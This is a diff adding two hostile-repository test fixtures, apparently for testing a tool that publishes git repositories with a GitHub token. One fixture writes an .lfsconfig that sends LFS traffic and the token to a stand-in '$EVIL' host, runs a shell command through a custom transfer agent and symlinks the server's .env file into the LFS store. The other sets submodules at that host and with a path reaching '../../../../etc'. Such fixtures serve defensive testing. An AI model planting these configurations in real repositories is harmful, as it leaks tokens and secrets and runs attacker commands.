@@ -106,6 +106,24 @@ export const WITH_CONFIGURATION_OF_GIT: readonly HostileRepository[] = [
     ends: /what git considers unsound \(gitmodules/,
   },
   {
+    name: 'an .lfsconfig that leads Git LFS, and the token, to another host',
+    target: 'GITHUB_TOKEN',
+    content: `printf '*.bin filter=lfs\\n' > .gitattributes
+      printf '[lfs]\\n\\turl = %s\\n\\tpushurl = %s\\n\\tstandalonetransferagent = x\\n[lfs "customtransfer.x"]\\n\\tpath = sh\\n\\targs = -c "%s"\\n[remote "origin"]\\n\\tlfsurl = %s\\n' $EVIL/$SLUG $EVIL/$SLUG "${CALL}" $EVIL/$SLUG > .lfsconfig
+      printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%064d\\nsize 12\\n' 7 > lost.bin`,
+    agent:
+      'git config remote.origin.lfsurl http://127.0.0.1:1; printf work > work.bin; mkdir -p .git/lfs; ln -s $HOME_OF_SERVER/.env .git/lfs/objects',
+    ends: 'published',
+  },
+  {
+    name: 'submodules at another host, and with names that lead out of their folder',
+    target: 'GITHUB_TOKEN',
+    content: `printf '[submodule "a"]\\n\\tpath = a\\n\\turl = %s/x/y.git\\n[submodule "b/hooks"]\\n\\tpath = b\\n\\turl = ../../../../etc\\n' $EVIL/$SLUG > .gitmodules
+      for name in a b; do git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),$name; done`,
+    agent: 'echo work > work.txt',
+    ends: 'published',
+  },
+  {
     name: 'branches and tags with names that confuse',
     forge: `commit=$(git rev-parse main)
       for name in refs/heads/main heads/main origin/main -- -x; do git update-ref "refs/heads/$name" $commit || true; done
